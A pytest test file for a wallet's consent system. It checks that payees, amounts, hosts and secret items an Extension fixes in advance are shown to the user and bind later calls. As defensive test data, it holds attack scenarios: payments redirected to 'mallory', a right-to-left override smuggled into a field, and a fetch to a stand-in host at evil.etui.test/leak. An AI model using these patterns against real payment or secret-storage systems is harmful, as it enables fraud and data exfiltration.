"""What an Extension settles beforehand is in the question and binds; nobody says yes to what is not shown."""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import msgspec
import pytest
from tests.trusted.router.puppet import ORDER, code, puppet, told
from tests.trusted.router.strangers import Stranger

from etui.interfaces import secret_1 as secret
from etui.interfaces import shell_1 as shell_interface
from etui.interfaces import wallet_1 as wallet_interface
from etui.protocol import ErrorCode, ProtocolError
from etui.sdk import Client
from etui.testkit import TestWallet

SECOND = puppet("second")
PUPPET = puppet(uses=("secret/1", SECOND.interface))
PAYS = """
    class Onward(Request[RunResult], frozen=True, kw_only=True):
        METHOD = "org.example.second/1.pay"
        RESULT = RunResult
        payee: str
        amount: int
        currency: str
        code: str = ""
    tell(call.ask(Onward(payee="mallory", amount=99999900, currency="EUR", code="tell('paid')")).told)
"""
SETTLES = "settle(payee='mallory', amount=99999900, currency='EUR')"
SHOP = {"type": "named", "name": "Shop"}
PAID = json.dumps([json.dumps(["paid"])])


@pytest.fixture
def client(wallet: TestWallet) -> Iterator[Client]:
    with wallet.connect() as connected:
        yield connected


def with_fields(stranger: str = "puppet", *, uses: tuple[str, ...] = (), **fields: object) -> Stranger:
    """A puppet whose orders have these fields too."""
    return puppet(stranger, uses=uses, order={"params": {**ORDER["params"], **fields}})


def with_types(stranger: Stranger, **types: dict[str, object]) -> None:
    """Gives its document records with these fields."""
    records = {name: {"fields": fields} for name, fields in types.items()}
    stranger.document = msgspec.json.encode({**msgspec.json.decode(stranger.document), "types": records})


def questions(wallet: TestWallet) -> list[str]:
    """What the user was asked, but for installing."""
    return [lead for entry in wallet.user.asked() if "install" not in (lead := str(entry.get("lead")))]


def order(stranger: Stranger, client: Client, before: str, does: str = "", **fields: object) -> str:
    """What comes of an order of cake."""
    return str(stranger.call(client, "order", thing="cake", before=before, code=code(does), **fields)["told"])


# what may be settled


@pytest.mark.shares_wallet
@pytest.mark.attack(83)
@pytest.mark.parametrize(
    ("settles", "which"),
    [
        ("settle(host='evil.example')", "is no material field of"),
        ("settle(code='tell(1)')", "is no material field of"),
        ("settle(payee='shop', thing='gold')", "the request itself says"),
        ("settle(amount='5')", "is no integer"),
        ("settle(amount=True)", "is no integer"),
        ("settle(amount=-1)", "is no integer"),
        ("settle(payee=['shop'])", "is no text"),
        ("settle(guests=[1, '2'])", "is no list"),
        ("settle(place={'street': 'Etui Lane'})", "is no named"),
    ],
)
def test_only_open_material_fields_of_the_method_can_be_settled_with_a_value_of_their_type(
    wallet: TestWallet, client: Client, settles: str, which: str
) -> None:
    stranger = with_fields(
        guests={"type": "list", "of": {"type": "integer"}, "title": "Guests", "material": True, "optional": True},
        place={"type": "named", "name": "Place", "title": "Where", "material": True, "optional": True},
    )
    with_types(stranger, Place={"street": {"type": "text"}, "number": {"type": "integer"}})
    stranger.install(wallet)
    wallet.user.approves(action_contains="order")
    with pytest.raises(ProtocolError, match=which) as caught:
        order(stranger, client, settles)
    assert caught.value.code is ErrorCode.UNAVAILABLE
    assert questions(wallet) == []
    assert which in " ".join(client.call(wallet_interface.Why(id=caught.value.why)).sentences)


@pytest.mark.shares_wallet
def test_what_is_settled_of_any_type_stands_in_the_question(wallet: TestWallet, client: Client) -> None:
    stranger = with_fields(
        guests={"type": "list", "of": {"type": "integer"}, "title": "Guests", "material": True, "optional": True},
        note={"type": "text", "title": "Note", "material": True, "optional": True},
        warm={"type": "boolean", "title": "Warm", "material": True, "optional": True},
        shops={"type": "list", "of": SHOP, "title": "Shops", "material": True, "optional": True},
    )
    with_types(stranger, Shop={"name": {"type": "text", "title": "Name"}, "pays": {"type": "text"}})
    stranger.install(wallet)
    wallet.user.approves(action_contains="order cake")
    settles = "settle(guests=[3, 4], note='', warm=False, payee=None, shops=[{'name': 'Mayer', 'pays': 'mallory'}])"
    order(stranger, client, settles, amount=None)
    lines = dict(wallet.user.asked()[-1]["lines"])
    shops = '[{"name":"Mayer","pays":"mallory"}]'
    said = {"Guests": "3\n4", "Note": "(empty)", "Warm": "no", "Shops": shops}
    lines.pop("A yes that lasts", "")  # offered where who asks can be told from others
    assert lines == {"Thing": "cake", **{f"{title} (set by Puppet)": value for title, value in said.items()}}


@pytest.mark.shares_wallet
@pytest.mark.attack(83)
@pytest.mark.parametrize("left", [{}, {"payee": None, "amount": None, "currency": None}], ids=["absent", "null"])
def test_what_is_settled_is_asked_and_binds_the_calls_that_follow(
    wallet: TestWallet, client: Client, left: dict[str, None]
) -> None:
    PUPPET.install(wallet)
    SECOND.install(wallet)
    wallet.user.approves(action_contains="order cake for 999999.00 EUR")
    assert order(PUPPET, client, SETTLES, PAYS, **left) == PAID
    (asked,) = [entry for entry in wallet.user.asked() if "order" in str(entry.get("lead"))]
    lines = dict(asked["lines"])
    assert lines["To (set by Puppet)"] == "mallory"
    assert lines["Amount (set by Puppet)"] == "999999.00 EUR"
    assert len(questions(wallet)) == 1
    other = PAYS.replace("mallory", "another")
    assert order(PUPPET, client, SETTLES, other, **left) == json.dumps(["altered"])


@pytest.mark.shares_wallet
def test_an_amount_stands_apart_from_a_currency_that_somebody_else_said(wallet: TestWallet, client: Client) -> None:
    PUPPET.install(wallet)
    wallet.user.approves(action_contains="order cake for 3.00 EUR")
    order(PUPPET, client, "settle(amount=300)", "tell('ordered')", payee="shop", currency="EUR")
    lines = dict(wallet.user.asked()[-1]["lines"])
    assert (lines["Amount (set by Puppet)"], lines["Currency"]) == ("3.00", "EUR")


@pytest.mark.attack(83)
def test_who_says_no_to_what_is_settled_pays_nothing(wallet: TestWallet, client: Client) -> None:
    PUPPET.install(wallet)
    SECOND.install(wallet)
    wallet.user.refuses(action_contains="order cake for 999999.00 EUR")
    with pytest.raises(ProtocolError) as caught:
        order(PUPPET, client, SETTLES, PAYS)
    assert caught.value.code is ErrorCode.REFUSED
    assert not client.call(shell_interface.Audit(text="org.example.second/1.pay")).records


READ = {"type": "text", "title": "Terms", "material": True, "read": True}
NOTE = {"type": "text", "title": "Note", "material": True, "optional": True}


@pytest.mark.shares_wallet
@pytest.mark.attack(83)
@pytest.mark.parametrize("left", [{}, {"terms": None}, {"terms": 5}], ids=["absent", "null", "a number"])
def test_a_text_that_the_user_reads_is_the_requests_and_never_settled(
    wallet: TestWallet, client: Client, left: dict[str, Any]
) -> None:
    stranger = with_fields(terms=READ)
    stranger.install(wallet)
    wallet.user.approves(action_contains="order cake")
    with pytest.raises(ProtocolError) as caught:
        order(stranger, client, "settle(terms='I owe mallory a house.')", **left)
    assert caught.value.code is ErrorCode.INVALID_PARAMS
    assert questions(wallet) == []


@pytest.mark.shares_wallet
@pytest.mark.attack(83)
def test_what_is_settled_beside_a_text_that_is_read_is_seen_as_it_is(wallet: TestWallet, client: Client) -> None:
    stranger = with_fields(terms=READ, note=NOTE)
    stranger.install(wallet)
    wallet.user.approves(action_contains="order cake")
    with pytest.raises(ProtocolError, match="RIGHT-TO-LEFT OVERRIDE") as caught:
        order(stranger, client, "settle(note='to \\u202emallory')", terms="One cake.")
    assert caught.value.code is ErrorCode.UNAVAILABLE
    assert questions(wallet) == []
    assert order(stranger, client, "settle(note='to the shop')", "tell(1)", terms="One cake.") == "[1]"


# items


READS = """
    tell(call.ask(secret.Read(item=%r)).value.decode())
"""


def lent(wallet: TestWallet, client: Client, stranger: Stranger) -> str:
    """The Extension's reference to a note that it was let have once."""
    client.call(secret.Create(kind="note", label="Mine", attributes={"for": "puppet"}, value=b"secret"))
    wallet.user.approves(action_contains="Mine", times=1)
    finds = "tell(call.ask(secret.Find(attributes={'for': 'puppet'})).items[0].item)"
    (reference,) = json.loads(told(stranger, client, finds))
    return str(reference)


@pytest.mark.shares_wallet
@pytest.mark.attack(84)
def test_an_item_that_was_lent_once_is_not_read_again_by_settling_it(wallet: TestWallet, client: Client) -> None:
    PUPPET.install(wallet)
    reference = lent(wallet, client, PUPPET)
    wallet.user.approves(action_contains="order cake")
    with pytest.raises(ProtocolError, match="no material field") as caught:
        order(PUPPET, client, f"settle(item={reference!r})", READS % reference)
    assert caught.value.code is ErrorCode.UNAVAILABLE
    assert len(questions(wallet)) == 1


@pytest.mark.shares_wallet
@pytest.mark.attack(84)
def test_an_item_that_is_settled_is_named_in_the_question(wallet: TestWallet, client: Client) -> None:
    item = {"type": "reference", "title": "Flavour", "material": True, "policy": "item", "optional": True}
    stranger = with_fields(uses=("secret/1",), item=item)
    stranger.install(wallet)
    reference = lent(wallet, client, stranger)
    wallet.user.approves(action_contains="order cake")
    assert order(stranger, client, f"settle(item={reference!r})", READS % reference) == json.dumps(["secret"])
    assert dict(wallet.user.asked()[-1]["lines"])["Flavour (set by Puppet)"] == "Mine (Note, kept by Secrets)"
    for wrong in ("r1." + "A" * 60, "mine", reference[:-1] + ("A" if reference[-1] != "A" else "B")):
        with pytest.raises(ProtocolError, match="a reference that is not its own") as caught:
            order(stranger, client, f"settle(item={wrong!r})")
        assert caught.value.code is ErrorCode.UNAVAILABLE


# hosts


FETCHES = """
    tell(call.ask(egress.Fetch(method="GET", host="evil.etui.test", url="http://evil.etui.test/leak")).status)
"""
FETCHED = "settle(host='evil.etui.test', method='GET')"


@pytest.fixture
def hits(short_dir: Path) -> Iterator[tuple[TestWallet, list[str]]]:
    """A wallet in which ``evil.etui.test`` is a site, and what that was asked for."""
    asked: list[str] = []

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Says nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    with TestWallet(short_dir, hosts={"evil.etui.test": server.server_address[1]}) as running:
        running.create()
        yield running, asked
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.attack(85)
def test_no_host_is_asked_that_was_settled_and_not_shown(hits: tuple[TestWallet, list[str]]) -> None:
    wallet, asked = hits
    stranger = puppet(uses=("egress/1",))
    stranger.install(wallet)
    wallet.user.approves(action_contains="order cake")
    with wallet.connect() as client:
        with pytest.raises(ProtocolError, match="no material field") as caught:
            order(stranger, client, FETCHED, FETCHES)
        assert caught.value.code is ErrorCode.UNAVAILABLE
        wallet.user.refuses(action_contains="evil.etui.test")
        assert order(stranger, client, "", FETCHES) == json.dumps(["refused"])
    assert asked == []


@pytest.mark.attack(85)
def test_a_host_that_is_settled_stands_in_the_question(hits: tuple[TestWallet, list[str]]) -> None:
    wallet, asked = hits
    host = {"type": "text", "title": "Whom it tells", "material": True, "policy": "host", "optional": True}
    method = {"type": "choice", "options": ["GET"], "title": "How", "material": True, "policy": "method"}
    stranger = with_fields(uses=("egress/1",), host=host, method={**method, "optional": True})
    stranger.install(wallet)
    with wallet.connect() as client:
        wallet.user.approves(action_contains="order cake")
        assert order(stranger, client, FETCHED, FETCHES) == json.dumps([204])
    (question,) = [entry for entry in wallet.user.asked() if "install" not in str(entry.get("lead"))]
    assert dict(question["lines"])["Whom it tells (set by Puppet)"] == "evil.etui.test"
    assert asked == ["/leak"]


# under a lasting right


class Orders:
    """A program of its own that orders through the puppet, so that a lasting right can be its."""

    def __init__(self, wallet: TestWallet, client: Client, stranger: Stranger = PUPPET) -> None:
        self._wallet, self._client, self._stranger = wallet, client, stranger
        self._script = wallet.folder / "orders.py"
        self._script.write_text(PROGRAM, encoding="utf-8")
        self.principal = self._run(b"null")

    def order(self, settles: str, does: str = PAYS, **fields: object) -> str:
        """What comes of an order."""
        return self._run(msgspec.json.encode({"thing": "cake", "before": settles, "code": code(does), **fields}))

    def may(self, **limits: Any) -> None:  # noqa: ANN401  # fields of a request
        """Gives it a lasting right to order."""
        self._wallet.user.approves(action_contains="lasting rights", times=1)
        action = f"{self._stranger.interface}.order"
        self._client.call(wallet_interface.Grant(client=self.principal, action=action, **limits))

    def _run(self, params: bytes) -> str:
        method = f"{self._stranger.interface}.order"
        ran = self._wallet.run(sys.executable, str(self._script), method, params.decode())
        assert ran.returncode == 0, ran.stderr
        return ran.stdout.strip()


PROGRAM = """
import json, sys
from etui.protocol import ProtocolError
from etui.sdk import Client
with Client.connect() as wallet:
    if sys.argv[2] == "null":
        print(wallet.greeting.client)
    else:
        try:
            print(json.loads(wallet.call_raw(sys.argv[1], sys.argv[2].encode()))["told"])
        except ProtocolError as error:
            print(error.code.slug)
"""
REFUSED = json.dumps(["refused"])


@pytest.mark.attack(86)
def test_a_lasting_right_without_a_limit_does_not_cover_what_is_settled(wallet: TestWallet, client: Client) -> None:
    PUPPET.install(wallet)
    SECOND.install(wallet)
    orders = Orders(wallet, client)
    orders.may()
    wallet.user.refuses(action_contains="pay 999999.00 EUR to mallory")
    before = len(questions(wallet))
    assert orders.order(SETTLES) == REFUSED
    assert questions(wallet)[before:] == ["wants to pay 999999.00 EUR to mallory"]
    # what the program says itself the right does cover
    assert orders.order("", payee="mallory", amount=99999900, currency="EUR") == PAID
    assert len(questions(wallet)) == before + 1


@pytest.mark.attack(86)
def test_a_lasting_right_up_to_an_amount_counts_what_is_settled_and_covers_no_payee(
    wallet: TestWallet, client: Client
) -> None:
    PUPPET.install(wallet)
    SECOND.install(wallet)
    orders = Orders(wallet, client)
    orders.may(limit_minor=500, currency="EUR")
    small = PAYS.replace("99999900", "300")
    wallet.user.refuses(action_contains="pay 3.00 EUR to mallory")
    before = len(questions(wallet))
    assert orders.order("settle(payee='mallory', amount=300, currency='EUR')", small) == REFUSED
    # the amount is what the right is for: with a payee that the program names it is covered
    wallet.user.refuses(action_contains="order cake for 3.00 EUR")
    assert orders.order("settle(amount=200, currency='EUR')", PAYS.replace("99999900", "200"), payee="mallory") == PAID
    assert orders.order("settle(amount=300, currency='EUR')", small, payee="mallory") == "refused"
    leads = ["wants to pay 3.00 EUR to mallory", "wants to order cake for 3.00 EUR"]
    assert questions(wallet)[before:] == leads
    assert "used up" in " ".join(wallet.user.asked()[-1]["notes"])


@pytest.mark.attack(86)
def test_a_lasting_right_for_one_value_covers_that_value_when_it_is_settled(wallet: TestWallet, client: Client) -> None:
    payee = {**ORDER["params"]["payee"], "scope": True}
    stranger = with_fields(uses=(SECOND.interface,), payee=payee)
    stranger.install(wallet)
    SECOND.install(wallet)
    orders = Orders(wallet, client, stranger)
    costs: dict[str, Any] = {"amount": 300, "currency": "EUR"}
    pays = PAYS.replace("99999900", "300").replace("mallory", "shop")
    orders.may(limit_minor=600, currency="EUR", only_for="shop")
    assert orders.order("settle(payee='shop')", pays, **costs) == PAID
    before = len(questions(wallet))
    assert orders.order("settle(payee='shop')", pays, **costs) == PAID
    assert len(questions(wallet)) == before
    wallet.user.refuses(action_contains="order cake")
    assert orders.order("settle(payee='mallory')", PAYS.replace("99999900", "300"), **costs) == "refused"


# under another call


@pytest.mark.shares_wallet
@pytest.mark.attack(83)
@pytest.mark.parametrize(("payee", "ends"), [("mallory", ["altered"]), ("shop", [json.dumps(["ordered"])])])
def test_what_is_settled_within_a_call_is_what_was_consented_to_with_that_call(
    wallet: TestWallet, client: Client, payee: str, ends: list[str]
) -> None:
    PUPPET.install(wallet)
    SECOND.install(wallet)
    wallet.user.approves(action_contains="order cake for 5.00 EUR")
    before = f'settle(payee="{payee}")'
    onward = f"""
        class Onward(Order, frozen=True, kw_only=True):
            METHOD = "org.example.second/1.order"
        told = call.ask(Onward(thing="cake", before={before!r}, code="tell('ordered')")).told
        tell(told)
    """
    answer = order(PUPPET, client, "", onward, payee="shop", amount=500, currency="EUR")
    assert json.loads(answer) == ends
    assert len(questions(wallet)) == 1


@pytest.mark.attack(83)
def test_what_is_settled_within_a_call_and_was_not_consented_to_with_it_is_asked(
    wallet: TestWallet, client: Client
) -> None:
    PUPPET.install(wallet)
    SECOND.install(wallet)
    wallet.user.approves(action_contains="order cake for  ", times=1)
    wallet.user.refuses(action_contains="order cake for 1.00 EUR")
    onward = """
        class Onward(Order, frozen=True, kw_only=True):
            METHOD = "org.example.second/1.order"
        call.ask(Onward(thing="cake", before="settle(payee='mallory', amount=100, currency='EUR')"))
    """
    assert order(PUPPET, client, "", onward) == REFUSED
    assert dict(wallet.user.asked()[-1]["lines"])["To (set by Second)"] == "mallory"


@pytest.mark.shares_wallet
@pytest.mark.attack(163)
def test_one_yes_to_an_amount_covers_one_payment(wallet: TestWallet, client: Client) -> None:
    PUPPET.install(wallet)
    SECOND.install(wallet)
    wallet.user.approves(action_contains="order cake for 999999.00 EUR", times=1)
    assert order(PUPPET, client, SETTLES, PAYS + PAYS) == json.dumps([json.dumps(["paid"]), "not_now"])
    assert "pay 999999.00 EUR to mallory" in questions(wallet)[-1]
